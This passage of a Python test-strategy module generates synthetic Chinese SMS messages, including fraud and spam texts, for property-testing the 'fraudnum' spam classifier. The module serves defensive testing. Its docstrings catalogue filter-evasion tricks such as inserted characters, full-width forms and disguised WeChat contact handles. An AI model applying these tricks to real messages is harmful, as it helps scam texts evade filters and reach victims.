    """SMS texts that :func:`fraudnum.classify_sms` puts in ``category`` (with no sender).

    Spam is composed from ``data/phrases.csv``: a phrase strong enough for its category
    on its own (weighed against ``data/sms_policy.csv``), maybe more phrases of the same
    category, realistic filler, a look-alike link in fraud. Phrases that also count
    towards another category or fire another category's rule are never used, so the
    text means what it claims. ``normal`` messages are verification codes, delivery and
    bank notices and chat; ``warning`` ones are 12381/96110-style warnings without a link
    or a number to call. Examples shrink to a single phrase.

    Args:
        category: a :class:`~fraudnum.SmsCategory` or its value; None draws any.
        script: ``"simplified"`` or ``"traditional"`` (every character with a traditional
            form is written in it); None draws either.
        evasions: write spam the way spammers dodge filters: characters between the
            characters of a phrase (``刷*单``), full-width and case changes, traditional
            characters inside simplified text, and contact handles behind substitutes for
            微信 (``加V：abc888``, ``威信``). Benign and warning texts never evade.

    Returns:
        A strategy for strings.

    Raises:
        hypothesis.errors.InvalidArgument: an option is not one of its allowed values
            (the message lists them).

    Example:
        >>> from hypothesis import given
        >>> import fraudnum
        >>> @given(sms(category="fraud"))
        ... def test_fraud_is_never_normal(text):
        ...     assert fraudnum.classify_sms(text).spam

    """
    cat = _check_category(category)
    scr = _check_script(script)
    ev = _check_bool("evasions", evasions)
    cats = [cat] if cat is not None else list(SmsCategory)
    return st.sampled_from(cats).flatmap(lambda c: _message(c, scr, ev))


@st.composite
def _pair(
    draw: st.DrawFn, category: SmsCategory, script: str | None, evasions: bool
) -> tuple[str, str]:
    if category is SmsCategory.NORMAL:
        kind = draw(st.sampled_from(sorted({k for kinds, _ in _NORMAL for k in kinds})))
        traditional = script == "traditional" if script else draw(st.booleans())
        text = draw(_normal(traditional, [kind]))
    else:
        kinds = _WARNING_SENDERS if category is SmsCategory.WARNING else _SPAM_SENDERS
        kind = draw(st.sampled_from(kinds))
        text = draw(_message(category, script, evasions))
    return draw(numbers(kind=kind, formatted=True)), text


def sms_pairs(
    *,
    category: SmsCategory | str | None = None,
    script: str | None = None,
    evasions: bool = True,
) -> st.SearchStrategy[tuple[str, str]]:
    """``(sender, text)`` pairs that ``classify_sms(text, sender=sender)`` puts in ``category``.

    The sender agrees with the message: warnings come from 12381 or 96110, bank notices
    and verification codes from 95 numbers and 106 ports, chat from mobiles, and spam from
    mobiles, ports, landlines and abroad (never from an official number, which would be a
    different story). Senders are written in any realistic format.

    Args:
        category: as for :func:`sms`.
        script: as for :func:`sms`.
        evasions: as for :func:`sms`.

    Returns:
        A strategy for ``(sender, text)`` tuples.

    Raises:
        hypothesis.errors.InvalidArgument: an option is not one of its allowed values.

    Example:
        >>> from hypothesis import given
        >>> import fraudnum
        >>> @given(sms_pairs(category="warning"))
        ... def test_warnings_are_never_blocked(pair):
        ...     sender, text = pair
        ...     assert fraudnum.classify_sms(text, sender=sender).blockable is False

    """
    cat = _check_category(category)
    scr = _check_script(script)
    ev = _check_bool("evasions", evasions)
    cats = [cat] if cat is not None else list(SmsCategory)
    return st.sampled_from(cats).flatmap(lambda c: _pair(c, scr, ev))


def sms_verdicts(*, category: SmsCategory | str | None = None) -> st.SearchStrategy[SmsVerdict]:
    """Real SMS verdicts: :func:`fraudnum.classify_sms` applied to generated messages.

    Half come with a sender (from :func:`sms_pairs`), half without. Also registered as
    ``st.from_type(fraudnum.SmsVerdict)``.

    Args:
        category: the category of the generated message, as for :func:`sms`.

    Returns:
        A strategy for :class:`~fraudnum.SmsVerdict`.

    Raises:
        hypothesis.errors.InvalidArgument: ``category`` is not an SMS category.

    Example:
        >>> from hypothesis import given
        >>> @given(sms_verdicts())
        ... def test_reasons_have_spans_inside_the_text(v):
        ...     assert v.reasons

    """
    with_sender = sms_pairs(category=category).map(lambda p: classify_sms(p[1], sender=p[0]))
    without = sms(category=category).map(classify_sms)
    return st.one_of(without, with_sender)


# Strategies for st.from_type() of the smaller types (see _hypothesis_plugin.py).


def _reasons() -> st.SearchStrategy[object]:
    return st.one_of(verdicts(), sms_verdicts()).flatmap(lambda v: st.sampled_from(v.reasons))


def _organisations() -> st.SearchStrategy[object]:
    orgs = list(dict.fromkeys(r.organisation for r in builtin_rules() if r.organisation))
    return st.sampled_from(orgs)


def _url_findings() -> st.SearchStrategy[object]:
    texts = st.tuples(sms(category="fraud"), st.sampled_from(_FRAUD_HOSTS)).map(
        lambda t: t[0] + " http://" + t[1]
    )
    return texts.flatmap(lambda text: st.sampled_from(classify_sms(text).urls))


def _all_kinds() -> st.SearchStrategy[object]:
    return st.sampled_from([NumberKind(k) for k in _allowed_kinds()])
